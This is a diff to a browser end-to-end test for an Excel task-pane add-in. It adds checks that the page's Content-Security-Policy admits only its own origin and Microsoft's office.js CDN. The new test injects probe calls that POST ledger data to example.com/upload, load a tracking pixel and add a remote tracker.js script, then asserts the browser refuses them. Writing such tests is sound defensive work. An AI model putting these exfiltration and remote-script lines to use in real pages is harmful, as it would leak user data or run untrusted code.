@@ -14,10 +14,23 @@ import { PROGRESS_STATUSES } from '../../src/core/progress/status';
 import { ALL_RULES } from '../../src/core/rules/registry';
 import { ExcelSimulator, SheetDump } from '../excelSimulator';
 import { OfficeWorkbook, readOfficeWorkbook } from '../helpers/officeWorkbook';
-import { DIST, StaticServer, launchBrowser, recordRequests, remoteRequests, screenshot, serveDirectory } from './harness';
+import {
+  DIST,
+  StaticServer,
+  launchBrowser,
+  metaPolicy,
+  recordRequests,
+  recordViolations,
+  remoteRequests,
+  requestOrigins,
+  screenshot,
+  serveDirectory,
+} from './harness';
 import { SimulatorSetup } from './simulatorPage';
-/** The task pane loads office.js from Microsoft's CDN, as add-ins must; the test answers it with nothing. */
+/** The task pane loads office.js from Microsoft's CDN, as add-ins must; the test answers it with the simulator. */
 const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
+/** The one outside origin the pane's Content-Security-Policy lets in. */
+const OFFICE_CDN = new URL(OFFICE_JS).origin;
 const TIMEOUT = 180_000;
 /** A task pane is about this wide beside the sheet. */
 const VIEWPORT = { width: 380, height: 900 };
@@ -81,19 +94,32 @@ interface Pane {
   context: BrowserContext;
   page: Page;
   requests: string[];
+  /** Content-Security-Policy violations the page reported. */
+  violations: string[];
 }
 
-/** taskpane.html in a fresh page, the simulator over `setup` standing in for Office before any script runs. */
+/**
+ * taskpane.html in a fresh page, the simulator over `setup` standing in for Office: it is the answer
+ * to the page's own office.js request, from the CDN's address, so the page's Content-Security-Policy
+ * must let that origin's script run (the setup it reads is set before any script runs).
+ */
 async function openPane(setup: SimulatorSetup): Promise<Pane> {
   const context = await browser.newContext({ viewport: VIEWPORT, locale: 'zh-CN' });
   const page = await context.newPage();
   const requests = recordRequests(page);
-  await page.route(OFFICE_JS, (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: '' }));
+  const violations = await recordViolations(page);
+  await page.route(OFFICE_JS, (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: simulatorScript }));
   await page.addInitScript({ content: `window.__taizhangSimulator = ${JSON.stringify(setup)};` });
-  await page.addInitScript({ content: simulatorScript });
   await page.goto(`${server.origin}/taskpane.html`);
   await page.getByRole('tab', { name: '识别' }).waitFor();
-  return { context, page, requests };
+  return { context, page, requests, violations };
+}
+
+/** Nothing went anywhere but the pane's own origin and office.js on the CDN, and nothing was refused. */
+function expectOnlyOwnOriginAndOfficeJs(requests: string[], violations: string[]): void {
+  expect(requestOrigins(requests)).toEqual([server.origin, OFFICE_CDN].sort());
+  expect([...new Set(remoteRequests(requests, server.origin))]).toEqual([OFFICE_JS]);
+  expect(violations).toEqual([]);
 }
 
 function panel(page: Page, name: string): Locator {
@@ -247,6 +273,7 @@ describe('the task pane in Chromium, over the Excel simulator', () => {
     const title = '2024年县政府民生实事项目表';
     const asOf = '2024-09-30';
     const requests: string[] = [];
+    const violations: string[] = [];
 
     // 识别, and a correction kept in the workbook for the next opening
     let pane = await openPane(setupOf(office));
@@ -263,6 +290,7 @@ describe('the task pane in Chromium, over the Excel simulator', () => {
     const overrides: TableOverride[] = [{ sheet, roles: { type: null } }];
     expect(JSON.parse(saved['taizhang.overrides'] as string)).toEqual(overrides);
     requests.push(...pane.requests);
+    violations.push(...pane.violations);
     await pane.context.close();
 
     // the same workbook opened again: the correction is there without asking
@@ -310,15 +338,16 @@ describe('the task pane in Chromium, over the Excel simulator', () => {
     for (const fix of fixes) expect([fix.cell, restored.cells[fix.cell].value, restored.cells[fix.cell].formula]).toEqual([fix.cell, fix.typed, undefined]);
 
     requests.push(...pane.requests);
+    violations.push(...pane.violations);
     await pane.context.close();
-    expect([...new Set(remoteRequests(requests, server.origin))]).toEqual([OFFICE_JS]);
+    expectOnlyOwnOriginAndOfficeJs(requests, violations);
   }, TIMEOUT);
 
   it('shanting: the report date from the title, findings by lead unit, progress, write and undo', async () => {
     const office = await readOfficeWorkbook('shanting');
     const sheet = '一季度台账';
     const pane = await openPane(setupOf(office));
-    const { page, context, requests } = pane;
+    const { page, context, requests, violations } = pane;
     await expectDetected(page, '2025年一季度民生实事工作进展情况台账', ['第 2 行', '第 3–35 行', '无', '33', '10']);
     const detect = panel(page, '识别');
     expect(await detect.locator('input[type="date"]').inputValue()).toBe('2025-03-31');
@@ -379,6 +408,77 @@ describe('the task pane in Chromium, over the Excel simulator', () => {
     expect(await dumpSheet(page, sheet)).toEqual(planted);
 
     await context.close();
-    expect([...new Set(remoteRequests(requests, server.origin))]).toEqual([OFFICE_JS]);
+    expectOnlyOwnOriginAndOfficeJs(requests, violations);
+  }, TIMEOUT);
+
+  it('the Content-Security-Policy lets in office.js from its CDN and nothing else from outside, and the steps break none of it', async () => {
+    // the built page carries the policy before its first script: office.js and the bundle come under it
+    const html = fs.readFileSync(path.join(DIST, 'taskpane.html'), 'utf8');
+    const policy = metaPolicy(html);
+    expect(policy).not.toBeNull();
+    expect(html.search(/http-equiv=["']?Content-Security-Policy/i)).toBeLessThan(html.search(/<script\b/i));
+    const directives = new Map(
+      policy!
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .filter((d) => d[0] !== '')
+        .map(([name, ...sources]) => [name, sources]),
+    );
+    expect(directives.get('default-src')).toEqual(["'none'"]);
+    expect(directives.get('script-src')).toEqual(["'self'", OFFICE_CDN]);
+    expect(directives.get('connect-src')).toEqual(["'self'"]);
+    expect(directives.get('object-src')).toEqual(["'none'"]);
+    expect(directives.get('base-uri')).toEqual(["'none'"]);
+    // no other directive names anything outside: no host, no scheme that reaches the network
+    for (const [name, sources] of directives) {
+      const outside = sources.filter((s) => !["'self'", "'none'", "'unsafe-inline'", 'data:'].includes(s) && !(name === 'script-src' && s === OFFICE_CDN));
+      expect([name, outside]).toEqual([name, []]);
+      if (sources.includes("'unsafe-inline'")) expect(name).toBe('style-src');
+    }
+
+    // the pane through its steps, over the simulator: detect, check, progress (its chart loaded late), write and undo
+    const office = await readOfficeWorkbook('shanting');
+    const sheet = '一季度台账';
+    const pane = await openPane(setupOf(office));
+    const { page, context, requests, violations } = pane;
+    const failed = new Map<string, string>();
+    page.on('requestfailed', (request) => failed.set(request.url(), request.failure()?.errorText ?? ''));
+    try {
+      expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(policy);
+      await expectDetected(page, '2025年一季度民生实事工作进展情况台账', ['第 3–35 行']);
+      const expected = expectedCheck(office, undefined);
+      const step = await expectFindings(page, expected, sheet);
+      await clickFinding(page, step, expected.report.findings[0].cell, sheet);
+      await expectProgress(pane, expected);
+      const letter = columnLetter(expected.model.tables[0].table.right + 1);
+      await writeAndUndo(page, expected, sheet, `将在「一季度台账」${letter}–`, 'taskpane-csp-write');
+      expectOnlyOwnOriginAndOfficeJs(requests, violations);
+      expect(failed).toEqual(new Map());
+
+      // the records can fail: whatever the page tried off the machine now is both refused and seen
+      const seen = requests.length;
+      await page.evaluate(async () => {
+        await fetch('https://example.com/upload', { method: 'POST', body: 'ledger' }).catch(() => undefined);
+        new Image().src = 'https://example.com/pixel.png';
+        const script = document.createElement('script');
+        script.src = 'https://example.com/tracker.js';
+        document.head.append(script);
+        await new Promise((resolve) => setTimeout(resolve, 500));
+      });
+      const events = (): string[] => violations.filter((v) => !v.startsWith('console: ')).sort();
+      // the page's reports reach the test through a binding: a moment after the page sent them
+      for (let waited = 0; events().length < 3 && waited < 5_000; waited += 100) await page.waitForTimeout(100);
+      expect(events()).toEqual([
+        'connect-src https://example.com/upload',
+        'img-src https://example.com/pixel.png',
+        'script-src-elem https://example.com/tracker.js',
+      ]);
+      expect(violations.filter((v) => v.startsWith('console: ')).length).toBeGreaterThanOrEqual(3);
+      const probes = requests.slice(seen);
+      expect(requestOrigins(probes)).toContain('https://example.com');
+      for (const url of remoteRequests(probes, server.origin)) expect([url, failed.get(url)]).toEqual([url, 'csp']);
+    } finally {
+      await context.close();
+    }
   }, TIMEOUT);
 });
